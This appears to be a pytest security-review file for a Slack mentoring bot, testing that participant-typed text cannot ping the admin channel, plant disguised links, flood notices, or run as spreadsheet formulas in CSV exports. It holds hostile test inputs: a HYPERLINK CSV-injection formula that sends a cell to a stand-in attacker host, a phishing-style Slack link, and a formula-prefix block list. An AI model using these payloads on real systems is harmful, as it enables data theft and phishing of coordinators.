"""A security and privacy review of the coordinator notices, exports and alerts: what a participant can make
the bot say to the coordinators, and how often. Each test is a gap found in the review, marked xfail until fixed.

1. A paired mentee types Slack markup into her region (`<!channel>`, a disguised link): the profile-change
   notice quotes her old and new answers in the admin channel as they are, so it pings everyone there and
   shows a link whose words are hers and whose target is elsewhere.
2. A paired mentee flips an answer back and forth: each save posts another notice in the admin channel.
3. A participant's organization (typed in the form) or display name (set in Slack) that starts with `=` or
   `@` is written into the CSV exports as is: Excel, which coordinators open them in, runs it as a formula.
4. A participant's rematch reason is posted to the admin channel as typed: `<!channel>` pings the channel,
   and a link shows words she chose over another site's address.
5. Matching's reasons quote a region as typed: the match preview posted to the admin channel pings it.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

from sqlalchemy.engine import Engine

from bot.clock import FixedClock
from bot.runtime import Runtime
from storage.engine import session_scope
from storage.models import CheckIn, Pairing, Person, Program
from tests.conftest import ADMIN_ID
from tests.factories import make_program, send_user_change, shown_text
from tests.polling import wait_for
from tests.slack_driver import SlackDriver
from tests.slack_emulator import SlackEmulator
from tests.test_partner_change_journeys import (
    ADMIN_CHANNEL,
    LA,
    MENTEE,
    MENTOR,
    NAMES,
    PROGRAM,
    SETTLED,
    _edit_profile,
    _pair_in_program,
    _settle_down,
)
from tests.test_scheduler import enroll, settle_agreement

APRIL_10 = datetime(2025, 4, 10, 17, tzinfo=UTC)  # Thursday 10 AM in Los Angeles: the pair is running
FEB_20 = datetime(2025, 2, 20, 18, tzinfo=UTC)  # applications closed, the program not yet started
# Slack markup a person can type into any text field: a mention of everyone, and a link whose words lie.
PING = "<!channel>"
FAKE_LINK = "<http://evil.example/login|Re-approve your pairing>"
# What Excel and Google Sheets run as a formula when a cell starts with it (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _running_pair(engine: Engine, emulator: SlackEmulator, clock: FixedClock, **answers: Any) -> int:
    """Bo mentors Ana in PLSEP (the admin channel has the bot in it), introduced and agreed on; it is Apr 10."""
    program = make_program(engine)
    emulator.add_channel(ADMIN_CHANNEL, "plsep-admins", members=[ADMIN_ID, emulator.bot_user_id])
    pairing_id = _pair_in_program(engine, emulator, program, **answers)
    with session_scope(engine, write=True) as session:
        session.get(Pairing, pairing_id).status = "introduced"
    settle_agreement(engine, pairing_id, SETTLED)
    clock.set(APRIL_10)
    return pairing_id


def _about(emulator: SlackEmulator, person: str) -> list[dict[str, Any]]:
    """The admin channel's messages that mention this person."""
    return [m for m in emulator.messages_in(ADMIN_CHANNEL) if f"<@{person}>" in shown_text([m])]


def _live_markup(text: str) -> list[str]:
    """The typed markup that Slack would turn into a ping or a link in this mrkdwn text."""
    return [markup for markup in (PING, "<!here>", "<http://evil.example") if markup in text]


# -- 1. the profile-change notice quotes typed answers as mrkdwn ------------------------------------------------
async def test_a_region_typed_with_slack_markup_neither_pings_nor_links_in_the_coordinators_notice(
    slack: SlackDriver, emulator: SlackEmulator, engine: Engine, runtime: Runtime, clock: FixedClock
) -> None:
    """Ana and Bo meet in person in the Inland Empire. Ana edits her region to one that carries `<!channel>`
    and a link dressed as a Shelfmate request: the notice to the coordinators should show her words, not ping
    the whole admin channel nor offer a link to another site under words she chose."""
    _running_pair(engine, emulator, clock, meeting_format="in_person")

    hostile = f"Bay Area {PING} {FAKE_LINK}"
    _edit_profile(slack, emulator, MENTEE, 1, meeting_format="in_person", region=hostile)
    await _settle_down(runtime, emulator, clock)

    told = _about(emulator, MENTEE)
    assert len(told) == 1, ("the coordinators should hear of the region change once", told)
    text = shown_text(told)
    assert "Bay Area" in text and "Inland Empire" in text, text  # the notice is the one about her region
    assert _live_markup(text) == [], ("a typed answer became live markup in the admin channel", text)
    assert "&lt;!channel&gt;" in text, ("her region should read as she typed it", text)


# -- 2. flipping an answer back and forth -----------------------------------------------------------------------
async def test_flipping_an_answer_back_and_forth_does_not_flood_the_admin_channel(
    slack: SlackDriver, emulator: SlackEmulator, engine: Engine, runtime: Runtime, clock: FixedClock
) -> None:
    """Ana, undecided (or annoyed), saves her region as Bay Area, then Inland Empire again, six times in a few
    minutes. Each save posted another notice to the coordinators, six in all, about two answers that in the
    end did not change. One notice per distinct change in a day (Inland Empire to Bay Area, and back) is the
    most the coordinators should read."""
    _running_pair(engine, emulator, clock, meeting_format="in_person")

    for edit in range(1, 7):
        region = "Bay Area" if edit % 2 else "Inland Empire"
        _edit_profile(slack, emulator, MENTEE, edit, meeting_format="in_person", region=region)
    await _settle_down(runtime, emulator, clock)

    told = _about(emulator, MENTEE)
    assert told, "the first change is told: the check below could fail"
    assert len(told) <= 2, (
        f"{len(told)} notices for one answer flipped back and forth",
        [shown_text([m]) for m in told],
    )


async def test_the_same_change_made_again_on_another_day_is_told_again(
    slack: SlackDriver, emulator: SlackEmulator, engine: Engine, runtime: Runtime, clock: FixedClock
) -> None:
    """Ana moves her region to the Bay Area and back on Thursday: the coordinators read both changes, the last
    one saying where she is now. On Friday she moves to the Bay Area for real: a day later, that is news again,
    even though it is the same change as Thursday's first."""
    _running_pair(engine, emulator, clock, meeting_format="in_person")

    _edit_profile(slack, emulator, MENTEE, 1, meeting_format="in_person", region="Bay Area")
    await _settle_down(runtime, emulator, clock)
    _edit_profile(slack, emulator, MENTEE, 2, meeting_format="in_person", region="Inland Empire")
    await _settle_down(runtime, emulator, clock)
    thursday = [shown_text([m]) for m in _about(emulator, MENTEE)]
    assert len(thursday) == 2, thursday
    assert "from *Inland Empire* to *Bay Area*" in thursday[0], thursday
    assert "from *Bay Area* to *Inland Empire*" in thursday[1], thursday

    clock.set(datetime(2025, 4, 11, 16, tzinfo=UTC))  # Friday 9 AM in Los Angeles
    _edit_profile(slack, emulator, MENTEE, 3, meeting_format="in_person", region="Bay Area")
    await _settle_down(runtime, emulator, clock)
    told = [shown_text([m]) for m in _about(emulator, MENTEE)]
    assert len(told) == 3, ("Friday's move should be told", told)
    assert "from *Inland Empire* to *Bay Area*" in told[2], told


# -- 3. exports: typed answers and Slack names run as spreadsheet formulas ----------------------------------------
async def test_an_export_never_hands_excel_a_formula_typed_by_a_participant(
    slack: SlackDriver, emulator: SlackEmulator, engine: Engine, runtime: Runtime, clock: FixedClock
) -> None:
    """Ana types an organization that starts with `=` (a HYPERLINK formula that sends the sheet's next cell to
    another site) and Bo sets his Slack display name to start with `@`. The coordinator exports the pairings
    and opens the CSV in Excel: every cell should read as the text they typed, none as a formula."""
    _running_pair(engine, emulator, clock)

    formula = '=HYPERLINK("http://evil.example/?d="&B2,"Riverside Unified")'
    _edit_profile(slack, emulator, MENTEE, 1, organization=formula)
    emulator.add_user(MENTOR, name=MENTOR.lower(), real_name=NAMES[MENTOR], display_name="@SUM(1+1)*cmd", tz=LA)
    await send_user_change(slack, emulator, runtime, MENTOR)
    with session_scope(engine) as session:
        assert session.get(Person, MENTOR).display_name == "@SUM(1+1)*cmd", "Bo's new name was kept"

    slack.admin(ADMIN_ID, f"export pairings {PROGRAM}")
    [upload] = wait_for(lambda: emulator.uploaded_files, what="the pairings export")
    rows = list(csv.reader(io.StringIO(upload.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("Riverside Unified" in cell for cell in cells), rows  # Ana's organization is in the file
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert formulas == [], ("cells Excel would run as formulas", formulas)
    # What they typed, behind the apostrophe that spreadsheets show as text and do not run.
    assert f"'{formula}" in cells and "'@SUM(1+1)*cmd" in cells, rows


async def test_no_export_hands_excel_a_formula_and_numbers_stay_numbers(
    slack: SlackDriver, emulator: SlackEmulator, engine: Engine, runtime: Runtime, clock: FixedClock
) -> None:
    """The same two typed values in every export the coordinator can ask for: the participants list, the
    check-ins and the hours for professional development each name people and organizations. None hands
    Excel a formula, and the counts and hours stay plain numbers."""
    pairing_id = _running_pair(engine, emulator, clock)
    _edit_profile(slack, emulator, MENTEE, 1, organization="=1+2")
    emulator.add_user(MENTOR, name=MENTOR.lower(), real_name=NAMES[MENTOR], display_name="-2+3", tz=LA)
    await send_user_change(slack, emulator, runtime, MENTOR)
    with session_scope(engine, write=True) as session:
        session.add(
            CheckIn(pairing_id=pairing_id, met_on=date(2025, 4, 8), duration_minutes=90, format="video",
                    logged_by=MENTOR, idempotency_key="apr-8", created_at=APRIL_10)
        )  # fmt: skip

    for kind in ("participants", "pairings", "checkins", "hours"):
        uploads = len(emulator.uploaded_files)
        slack.admin(ADMIN_ID, f"export {kind} {PROGRAM}")
        wait_for(lambda: len(emulator.uploaded_files) > uploads, what=f"the {kind} export")  # noqa: B023
        rows = list(csv.reader(io.StringIO(emulator.uploaded_files[-1].content.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == [], (kind, rows)
        typed = {"'=1+2", "'-2+3"} & set(cells)
        assert typed, (f"the {kind} export should hold what they typed, as text", rows)
        if kind == "hours":
            assert ["1", "1.5"] in [row[3:5] for row in rows[1:]], rows  # Bo's meetings and hours, as numbers


# -- 4. the rematch request quotes the reason as mrkdwn -----------------------------------------------------------
async def test_a_rematch_reason_neither_pings_the_admin_channel_nor_links_elsewhere(
    slack: SlackDriver, emulator: SlackEmulator, engine: Engine, runtime: Runtime, clock: FixedClock
) -> None:
    """Ana asks for a new match with a reason that carries `<!channel>` and a link dressed as a Shelfmate
    request. The coordinators should read her reason as she wrote it, and nobody in the admin channel should
    be pinged by it."""
    _running_pair(engine, emulator, clock)

    answer = slack.mentor(MENTEE, f"rematch we never meet {PING} {FAKE_LINK}")
    assert answer.status_code == 200, answer.text
    await _settle_down(runtime, emulator, clock)

    told = [m for m in _about(emulator, MENTEE) if "not working" in shown_text([m])]
    assert len(told) == 1, ("the coordinators should get Ana's request once", [shown_text([m]) for m in told])
    text = shown_text(told)
    assert "we never meet" in text, text
    assert _live_markup(text) == [], ("a typed reason became live markup in the admin channel", text)
    assert "&lt;!channel&gt;" in text and "&lt;http://evil.example/login|Re-approve" in text, text  # her words


# -- 5. the match preview quotes regions as mrkdwn ----------------------------------------------------------------
async def test_a_region_typed_with_slack_markup_does_not_ping_the_channel_from_the_match_preview(
    slack: SlackDriver, emulator: SlackEmulator, engine: Engine, runtime: Runtime, clock: FixedClock
) -> None:
    """Two applicants who want to meet in person both typed a region that carries `<!here>`. The coordinator
    runs a match preview: the proposal posted to the admin channel should say where they are, not ping
    everyone in the channel."""
    program = make_program(engine)
    emulator.add_channel(ADMIN_CHANNEL, "plsep-admins", members=[ADMIN_ID, emulator.bot_user_id])
    region = "Inland Empire <!here>"
    with session_scope(engine, write=True) as session:
        for uid, role in ((MENTOR, "mentor"), (MENTEE, "mentee")):
            emulator.add_user(uid, name=uid.lower(), real_name=NAMES[uid], display_name=NAMES[uid], tz=LA)
            session.add(Person(slack_user_id=uid, display_name=NAMES[uid], timezone=LA, refreshed_at=FEB_20))
            session.flush()
            enroll(
                session, session.get(Program, program.id), uid, role, region=region, meeting_format="in_person",
                grade_levels=["middle"], status="applied",
            )  # fmt: skip
    clock.set(FEB_20)

    slack.admin(ADMIN_ID, f"match preview {PROGRAM}")
    preview = wait_for(
        lambda: [m for m in emulator.messages_in(ADMIN_CHANNEL) if "Proposed matches" in (m.get("text") or "")],
        what="the match preview in the admin channel",
    )
    text = shown_text(preview)
    assert f"<@{MENTOR}>" in text and "Inland Empire" in text, text  # the pair and its region are shown
    assert _live_markup(text) == [], ("a typed region became live markup in the admin channel", text)
    assert "both in Inland Empire &lt;!here&gt;" in text, text  # the region as typed, as words
